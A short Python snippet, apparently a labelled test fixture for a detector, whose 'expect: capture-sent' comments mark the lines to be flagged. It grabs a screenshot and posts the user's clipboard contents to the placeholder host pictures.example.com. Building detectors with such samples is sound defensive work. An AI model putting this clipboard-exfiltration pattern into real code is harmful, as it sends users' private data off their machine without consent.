import pyperclip
import requests
from PIL import ImageGrab as grabber

# expect: capture-sent
picture = grabber.grab()
# expect: capture-sent
requests.post("https://pictures.example.com", data=pyperclip.paste())
